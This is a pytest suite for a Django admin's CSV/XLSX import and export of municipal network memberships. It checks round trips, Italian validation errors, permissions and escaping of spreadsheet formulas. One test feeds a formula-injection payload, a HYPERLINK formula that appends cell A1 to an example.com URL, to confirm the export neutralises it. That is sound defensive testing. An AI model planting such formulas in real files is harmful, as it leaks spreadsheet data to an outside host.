"""
Import and export of the networks in the admin, driven as a browser drives it: the export form,
then the import form with a file, its preview, and the confirmation.
"""

import csv
import io
from datetime import date
from decimal import Decimal
from html.parser import HTMLParser

import openpyxl
import pytest
import tablib
from django.conf import settings
from django.contrib.admin.models import LogEntry
from django.contrib.auth.models import Group, Permission, User
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.forms.models import model_to_dict
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from networks.formulas import FORMULA_STARTS, escape_formula, unescape_formula
from networks.models import Membership, Network, Theme
from networks.resources import CSV, FORMATS, XLSX
from networks.roles import EDITORS

from .factories import MembershipFactory, NetworkFactory, ThemeFactory

pytestmark = pytest.mark.django_db

EXPORT_URL = reverse("admin:networks_network_export")
IMPORT_URL = reverse("admin:networks_network_import")
CHANGELIST_URL = reverse("admin:networks_network_changelist")


# The file, as the admin writes it and as an editor changes it.


def format_choice(file_format):
    return str(FORMATS.index(file_format))


def export(client, file_format):
    response = client.post(EXPORT_URL, {"format": format_choice(file_format)})
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Disposition"].startswith("attachment;")
    return response.content


def read(content, file_format):
    """Return the rows of an exported file as dictionaries, "" for an empty cell."""
    if file_format is CSV:
        return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    headers, *rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    return [
        {header: "" if value is None else value for header, value in zip(headers, row, strict=True)}
        for row in rows
    ]


def write(rows, file_format):
    """Return a file of `rows` (dictionaries, all with the same keys) in `file_format`."""
    if file_format is CSV:
        output = io.StringIO(newline="")
        writer = csv.DictWriter(output, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
        return output.getvalue().encode()
    workbook = openpyxl.Workbook()
    workbook.active.append(list(rows[0]))
    for row in rows:
        workbook.active.append(list(row.values()))
    for row in workbook.active.iter_rows():
        for cell in row:
            if cell.data_type == "f":
                cell.data_type = "s"  # a text typed as text, as a spreadsheet program keeps it
    output = io.BytesIO()
    workbook.save(output)
    return output.getvalue()


class HiddenInputs(HTMLParser):
    """Collect the hidden fields of the confirmation form, as a browser would send them."""

    def __init__(self):
        super().__init__()
        self.fields = {}

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "input" and attrs.get("type") == "hidden" and attrs.get("name"):
            self.fields[attrs["name"]] = attrs.get("value", "")


def upload(client, content, file_format):
    """Send the file to the import form; return the preview page."""
    name = "reti.csv" if file_format is CSV else "reti.xlsx"
    return client.post(
        IMPORT_URL,
        {"format": format_choice(file_format), "import_file": SimpleUploadedFile(name, content)},
    )


def confirm(client, preview):
    assert b'name="confirm"' in preview.content, "the preview offers no confirmation"
    parser = HiddenInputs()
    parser.feed(preview.content.decode())
    return client.post(reverse("admin:networks_network_process_import"), parser.fields)


def import_file(client, content, file_format):
    """Upload, look at the preview, confirm; return the changelist the browser lands on."""
    preview = upload(client, content, file_format)
    assert preview.status_code == 200
    response = confirm(client, preview)
    assert response.status_code == 302
    return client.get(response.url)


# The content


@pytest.fixture
def editor(client):
    user = User.objects.create_user("redattrice", is_staff=True)
    user.groups.add(Group.objects.get(name=EDITORS))
    client.force_login(user)
    return user


@pytest.fixture
def networks():
    climate = ThemeFactory(slug="clima-ed-energia")
    youth = ThemeFactory(slug="giovani")
    ThemeFactory(slug="cultura")
    published = NetworkFactory(
        slug="alleanza-per-il-clima",
        name_it="Alleanza per il clima",
        name_en="Climate Alliance",
        acronym="CA",
        summary_it="Città europee per il clima.",
        summary_en="European cities for the climate.",
        description_it="Prima riga.\nSeconda riga, con “virgolette”, e virgole.",
        description_en="First line.\nSecond line.",
        website="https://www.climatealliance.org/",
        scope=Network.Scope.EUROPEAN,
        promoter="Klima-Bündnis",
        founded_year=1990,
        key_facts_it="1.800 comuni in 27 paesi",
        key_facts_en="1,800 municipalities in 27 countries",
        key_facts_date=date(2024, 3, 31),
        themes=[youth, climate],
    )
    MembershipFactory(
        network=published,
        joined_year=2002,
        sector_it="Ambiente",
        sector_en="Environment",
        public_notes_it="Modena coordina il gruppo italiano.",
        public_notes_en="Modena leads the Italian group.",
        profile_url="https://www.climatealliance.org/modena",
        department="Settore Ambiente",
        contact_person="Maria Rossi",
        annual_fee=Decimal("1250.50"),
        council_resolution="Delibera G.C. n. 123/2002",
    )
    draft = NetworkFactory(
        slug="rete-in-bozza",
        name_it="Rete in bozza",
        name_en=None,
        summary_en=None,
        description_en=None,
        website="",
        status=Network.Status.DRAFT,
        scope=Network.Scope.NATIONAL,
    )
    MembershipFactory(network=draft, joined_year=1995, left_year=2000)
    # Texts that a spreadsheet would take for a formula, and texts that look escaped already.
    NetworkFactory(
        slug="senza-adesione",
        name_it="Senza adesione",
        acronym="+39",
        promoter="@Comune",
        summary_en="-20% emissions",
        key_facts_it="=1+1",
        key_facts_en="'=1+1, as a spreadsheet shows a text",
        description_en="''Two apostrophes",
    )
    return Network.objects.order_by("slug")


def snapshot():
    """Return every network with its themes and memberships, field by field."""
    skipped = {"id", "network", "created_at", "updated_at", "logo"}
    return [
        {
            **{k: v for k, v in model_to_dict(network).items() if k not in skipped | {"themes"}},
            "themes": sorted(theme.slug for theme in network.themes.all()),
            "memberships": [
                {k: v for k, v in model_to_dict(m).items() if k not in skipped}
                for m in network.memberships.all()
            ],
        }
        for network in Network.objects.order_by("slug")
    ]


def history_size():
    return (
        Network.history.count(),
        Membership.history.count(),
        LogEntry.objects.count(),
    )


# Export


class TestExport:
    def test_export_has_every_network_drafts_included_in_both_languages(
        self, client, editor, networks
    ):
        rows = read(export(client, CSV), CSV)
        assert [row["slug"] for row in rows] == [
            "alleanza-per-il-clima",
            "rete-in-bozza",
            "senza-adesione",
        ]
        climate, draft, _without = rows
        assert climate["name_it"] == "Alleanza per il clima"
        assert climate["name_en"] == "Climate Alliance"
        assert climate["description_it"] == networks[0].description_it  # quotes, commas, lines
        assert climate["themes"] == "clima-ed-energia,giovani"
        assert climate["status"] == "published"
        assert draft["status"] == "draft"
        assert draft["name_en"] == ""

    def test_export_carries_the_membership_internal_fields_included(self, client, editor, networks):
        climate = read(export(client, CSV), CSV)[0]
        assert climate["membership_joined_year"] == "2002"
        assert climate["membership_left_year"] == ""
        assert climate["membership_sector_en"] == "Environment"
        assert climate["membership_department"] == "Settore Ambiente"
        assert climate["membership_contact_person"] == "Maria Rossi"
        assert climate["membership_annual_fee"] == "1250.50"
        assert climate["membership_council_resolution"] == "Delibera G.C. n. 123/2002"

    def test_columns_have_one_per_language_for_each_translated_text(self, client, editor, networks):
        headers = list(read(export(client, CSV), CSV)[0])
        for field in ["name", "summary", "description", "key_facts"]:
            for code, _name in settings.LANGUAGES:
                assert f"{field}_{code}" in headers
        for field in ["sector", "public_notes"]:
            for code, _name in settings.LANGUAGES:
                assert f"membership_{field}_{code}" in headers
        assert headers[:2] == ["slug", "status"]

    def test_xlsx_keeps_numbers_dates_and_texts_as_such(self, client, editor, networks):
        content = export(client, XLSX)
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        headers = [cell.value for cell in sheet[1]]
        climate = {header: cell.value for header, cell in zip(headers, sheet[2], strict=True)}
        assert climate["founded_year"] == 1990
        assert climate["key_facts_date"].date() == date(2024, 3, 31)
        assert climate["membership_annual_fee"] == 1250.5
        formula = dict(zip(headers, sheet[4], strict=True))["key_facts_it"]
        assert formula.value == "=1+1"
        assert formula.data_type == "s"

    def test_csv_puts_an_apostrophe_before_a_text_a_spreadsheet_would_run(
        self, client, editor, networks
    ):
        rows = {row["slug"]: row for row in read(export(client, CSV), CSV)}
        texts = rows["senza-adesione"]
        assert texts["key_facts_it"] == "'=1+1"
        assert texts["acronym"] == "'+39"
        assert texts["promoter"] == "'@Comune"
        assert texts["summary_en"] == "'-20% emissions"
        # One more where the text begins with an apostrophe, so that the import takes one off.
        assert texts["key_facts_en"] == "''=1+1, as a spreadsheet shows a text"
        assert texts["description_en"] == "'''Two apostrophes"
        assert texts["name_it"] == "Senza adesione"
        climate = rows["alleanza-per-il-clima"]
        assert climate["founded_year"] == "1990"
        assert climate["membership_joined_year"] == "2002"
        assert climate["membership_annual_fee"] == "1250.50"
        assert climate["key_facts_date"] == "2024-03-31"

    @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
    def test_csv_neutralises_every_start_of_a_formula(self, client, editor, start):
        NetworkFactory(name_it=f'{start}HYPERLINK("https://example.com/?"&A1)')
        [row] = read(export(client, CSV), CSV)
        assert row["name_it"] == f'\'{start}HYPERLINK("https://example.com/?"&A1)'

    def test_csv_keeps_negative_numbers_numbers_and_such_texts_texts(self):
        dataset = tablib.Dataset([Decimal("-12.50"), -3, "-3", None], headers=["a", "b", "c", "d"])
        content = CSV().export_data(dataset).removeprefix("\ufeff")
        assert list(csv.reader(io.StringIO(content))) == [
            ["a", "b", "c", "d"],
            ["-12.50", "-3", "'-3", ""],
        ]

    def test_xlsx_keeps_such_texts_as_they_are_in_cells_that_stay_texts(
        self, client, editor, networks
    ):
        sheet = openpyxl.load_workbook(io.BytesIO(export(client, XLSX))).active
        headers = [cell.value for cell in sheet[1]]
        texts = dict(zip(headers, sheet[4], strict=True))
        for column, text in [
            ("key_facts_it", "=1+1"),
            ("acronym", "+39"),
            ("promoter", "@Comune"),
            ("summary_en", "-20% emissions"),
        ]:
            assert texts[column].value == text
            assert texts[column].data_type == "s"
            assert texts[column].quotePrefix  # as if typed after an apostrophe: edited, still text
        assert texts["key_facts_en"].value == "'=1+1, as a spreadsheet shows a text"
        assert not texts["name_it"].quotePrefix

    def test_export_does_not_grow_in_queries_with_the_networks(
        self, client, editor, networks, django_assert_max_num_queries
    ):
        for _index in range(30):
            MembershipFactory(network=NetworkFactory(themes=[Theme.objects.first()]))
        with django_assert_max_num_queries(12):
            export(client, CSV)

    def test_the_list_offers_export_and_import_to_editors(self, client, editor, networks):
        content = client.get(CHANGELIST_URL).content.decode()
        assert f'href="{EXPORT_URL}' in content and ">Esporta<" in content
        assert f"href='{IMPORT_URL}'" in content and ">Importa<" in content


# Round trips


@given(st.text())
def test_the_import_takes_off_exactly_the_apostrophe_the_export_puts_before_a_text(text):
    written = escape_formula(text)
    assert not written.startswith(FORMULA_STARTS)
    assert unescape_formula(written) == text


@pytest.mark.parametrize("file_format", FORMATS, ids=["csv", "xlsx"])
def test_export_then_import_into_an_emptied_database_gives_the_same_networks(
    client, editor, networks, file_format
):
    before = snapshot()
    content = export(client, file_format)
    Network.objects.all().delete()
    page = import_file(client, content, file_format)
    assert "3 nuove" in page.content.decode()
    assert snapshot() == before
    assert Theme.objects.count() == 3


@pytest.mark.parametrize("file_format", FORMATS, ids=["csv", "xlsx"])
def test_reimporting_an_unchanged_export_changes_nothing(client, editor, networks, file_format):
    content = export(client, file_format)
    before, history, updated = snapshot(), history_size(), list(networks.values("updated_at"))
    preview = upload(client, content, file_format)
    assert preview.content.decode().count('<tr class="skip">') == 3
    page = import_file(client, content, file_format)
    assert "0 nuove, 0 aggiornate" in page.content.decode()
    assert snapshot() == before
    assert history_size() == history
    assert list(networks.values("updated_at")) == updated


def test_reimporting_the_demo_content_changes_nothing(client, editor):
    call_command("loaddata", "demo", verbosity=0)
    content = export(client, CSV)
    before, history = snapshot(), history_size()
    import_file(client, content, CSV)
    assert snapshot() == before
    assert history_size() == history


class TestLineBreaks:
    """Browsers send CR LF inside a text area: the admin stores texts that way."""

    @pytest.fixture
    def network(self, networks):
        network = networks.get(slug="alleanza-per-il-clima")
        network.description_it = "Prima riga.\r\nSeconda riga."
        network.save()
        return network

    def test_csv_keeps_them_exactly(self, client, editor, network):
        content = export(client, CSV)
        Network.objects.all().delete()
        import_file(client, content, CSV)
        assert Network.objects.get(slug=network.slug).description_it == network.description_it

    def test_xlsx_which_stores_only_lf_does_not_count_them_as_a_change(
        self, client, editor, network
    ):
        content = export(client, XLSX)
        history = history_size()
        import_file(client, content, XLSX)
        assert Network.objects.get(slug=network.slug).description_it == network.description_it
        assert history_size() == history


# Changes through a file


@pytest.mark.parametrize("file_format", FORMATS, ids=["csv", "xlsx"])
def test_import_updates_a_network_and_its_membership_like_an_edit(
    client, editor, networks, file_format
):
    rows = read(export(client, file_format), file_format)
    rows[0]["summary_en"] = "Cities acting on climate change with their forests."
    rows[0]["membership_left_year"] = "2024"
    rows[0]["themes"] = "cultura"
    history = Network.history.count()

    page = import_file(client, write(rows, file_format), file_format)

    assert "0 nuove, 1 aggiornate, 0 eliminate e 2 invariate" in page.content.decode()
    network = Network.objects.get(slug="alleanza-per-il-clima")
    assert network.summary_en == "Cities acting on climate change with their forests."
    assert [theme.slug for theme in network.themes.all()] == ["cultura"]
    membership = network.memberships.get()
    assert (membership.joined_year, membership.left_year) == (2002, 2024)
    assert membership.department == "Settore Ambiente"
    # The history keeps who changed it, the search finds the new words.
    assert Network.history.count() > history
    assert network.history.first().history_user == editor
    assert membership.history.first().history_user == editor
    found = client.get("/en/networks/", {"q": "forests"})
    assert "Climate Alliance" in found.content.decode()
    entry = LogEntry.objects.get(object_id=str(network.pk))
    assert "summary_en" in entry.get_change_message()


@pytest.mark.parametrize("file_format", FORMATS, ids=["csv", "xlsx"])
def test_import_adds_a_network_from_a_new_row(client, editor, networks, file_format):
    rows = read(export(client, file_format), file_format)
    new = dict.fromkeys(rows[0], "")
    new.update(
        slug="eurodesk",
        status="draft",
        name_it="Eurodesk",
        summary_it="La rete di informazione europea per i giovani.",
        description_it="Descrizione.",
        scope="european",
        themes="giovani, cultura",
        membership_joined_year="2007",
        membership_sector_it="Politiche giovanili",
        membership_annual_fee="1.200,00",
    )
    import_file(client, write([*rows, new], file_format), file_format)
    network = Network.objects.get(slug="eurodesk")
    assert network.name_it == "Eurodesk"
    assert network.name_en is None  # as the admin stores an empty English text
    assert sorted(theme.slug for theme in network.themes.all()) == ["cultura", "giovani"]
    membership = network.memberships.get()
    assert membership.joined_year == 2007
    assert membership.annual_fee == Decimal("1200.00")
    assert network.search_documents.filter(text__contains="politiche giovanili").exists()
    assert LogEntry.objects.filter(object_id=str(network.pk)).get().is_addition()


def test_import_leaves_older_memberships_alone(client, editor, networks):
    network = networks.get(slug="alleanza-per-il-clima")
    older = MembershipFactory(network=network, joined_year=1995, left_year=1999)
    rows = read(export(client, CSV), CSV)
    rows[0]["membership_contact_person"] = "Luca Bianchi"
    import_file(client, write(rows, CSV), CSV)
    assert network.memberships.count() == 2
    assert network.memberships.get(left_year__isnull=True).contact_person == "Luca Bianchi"
    assert Membership.objects.get(pk=older.pk).contact_person == ""


# Errors: shown in Italian in the preview, and nothing is saved.


def rejected(client, rows, file_format=CSV):
    """Upload `rows`; check that no confirmation is offered and nothing changed; return the page."""
    before, history = snapshot(), history_size()
    preview = upload(client, write(rows, file_format), file_format)
    assert preview.status_code == 200
    assert b'name="confirm"' not in preview.content
    assert snapshot() == before
    assert history_size() == history
    return preview.content.decode()


@pytest.mark.parametrize("file_format", FORMATS, ids=["csv", "xlsx"])
def test_an_unknown_theme_is_a_row_error_in_italian(client, editor, networks, file_format):
    rows = read(export(client, file_format), file_format)
    rows[0]["summary_en"] = "A change that must not be saved."
    rows[1]["themes"] = "giovani,temi-inventati"
    content = rejected(client, rows, file_format)
    assert "Alcune righe non superano i controlli" in content
    assert "Tema sconosciuto: temi-inventati." in content


@pytest.mark.parametrize(
    ("column", "value", "message"),
    [
        ("founded_year", "1700", "L’anno deve essere compreso tra il 1850 e il 2100."),
        ("membership_joined_year", "2200", "L’anno deve essere compreso tra il 1850 e il 2100."),
        ("membership_left_year", "1999", "L’anno di uscita non può precedere l’anno di adesione."),
        ("founded_year", "novanta", "Scrivere l’anno con le quattro cifre, per esempio 2015."),
        ("key_facts_date", "31 marzo", "Scrivere la data come anno-mese-giorno"),
        ("membership_annual_fee", "mille", "Scrivere l’importo come numero"),
        ("status", "archiviata", "non è una scelta valida"),
        ("name_it", "", "Questo campo è obbligatorio."),
    ],
)
def test_a_wrong_value_is_a_row_error_in_italian(client, editor, networks, column, value, message):
    rows = read(export(client, CSV), CSV)
    rows[1]["summary_en"] = "A change that must not be saved."
    rows[0][column] = value
    content = rejected(client, rows)
    assert message in content.replace("&#x27;", "'")


def test_clearing_a_membership_in_the_file_is_refused(client, editor, networks):
    rows = read(export(client, CSV), CSV)
    for column in rows[0]:
        if column.startswith("membership_"):
            rows[0][column] = ""
    assert "Modena è membro di questa rete" in rejected(client, rows)


def test_two_rows_with_one_slug_are_refused(client, editor, networks):
    rows = read(export(client, CSV), CSV)
    assert "Anche la riga 1 ha questo slug" in rejected(client, [*rows, rows[0]])


def test_a_file_without_slugs_is_refused(client, editor, networks):
    rows = [{"name_it": "Rete senza slug"}]
    assert "Il file non ha la colonna «slug»" in rejected(client, rows)


def test_a_file_that_fails_at_the_confirmation_saves_nothing(client, editor, networks):
    """A theme deleted between the preview and the confirmation: not even the good rows."""
    rows = read(export(client, CSV), CSV)
    rows[0]["summary_en"] = "A change that must not be saved."
    rows[2]["themes"] = "cultura"
    before, history = snapshot(), history_size()
    preview = upload(client, write(rows, CSV), CSV)
    Theme.objects.filter(slug="cultura").delete()
    before = snapshot()
    response = confirm(client, preview)
    assert response.status_code == 302
    page = client.get(response.url).content.decode()
    assert "L’importazione è stata annullata" in page
    assert snapshot() == before
    assert history_size() == history


def test_a_csv_saved_by_an_italian_excel_is_read(client, editor, networks):
    rows = read(export(client, CSV), CSV)
    rows[0]["summary_it"] = "Città, comuni e unioni per il clima."
    output = io.StringIO(newline="")
    writer = csv.DictWriter(output, fieldnames=list(rows[0]), delimiter=";")
    writer.writeheader()
    writer.writerows(rows)
    import_file(client, output.getvalue().encode("cp1252", errors="replace"), CSV)
    assert networks.get(slug="alleanza-per-il-clima").summary_it == rows[0]["summary_it"]


# Who may


def staff_with(*codenames):
    user = User.objects.create_user("-".join(codenames) or "staff", is_staff=True)
    user.user_permissions.add(*Permission.objects.filter(codename__in=codenames))
    return user


def test_staff_without_permissions_can_neither_export_nor_import(client, networks):
    client.force_login(staff_with())
    assert client.get(EXPORT_URL).status_code == 403
    assert client.post(EXPORT_URL, {"format": format_choice(CSV)}).status_code == 403
    assert client.get(IMPORT_URL).status_code == 403
    assert upload(client, b"slug\nx\n", CSV).status_code == 403
    process = reverse("admin:networks_network_process_import")
    assert client.post(process, {}).status_code == 403


def test_staff_who_may_only_view_can_export_but_not_import(client, networks):
    client.force_login(staff_with("view_network", "view_membership"))
    content = client.get(CHANGELIST_URL).content.decode()
    assert f'href="{EXPORT_URL}' in content
    assert f"href='{IMPORT_URL}'" not in content
    assert len(read(export(client, CSV), CSV)) == 3
    assert client.get(IMPORT_URL).status_code == 403


def test_staff_who_may_not_see_memberships_cannot_export(client, networks):
    client.force_login(staff_with("view_network"))
    assert f'href="{EXPORT_URL}' not in client.get(CHANGELIST_URL).content.decode()
    assert client.get(EXPORT_URL).status_code == 403


def test_staff_who_may_not_publish_cannot_import(client, networks):
    user = staff_with()
    user.user_permissions.add(
        *Group.objects.get(name=EDITORS).permissions.exclude(codename="publish_network")
    )
    client.force_login(user)
    assert f"href='{IMPORT_URL}'" not in client.get(CHANGELIST_URL).content.decode()
    assert client.get(IMPORT_URL).status_code == 403
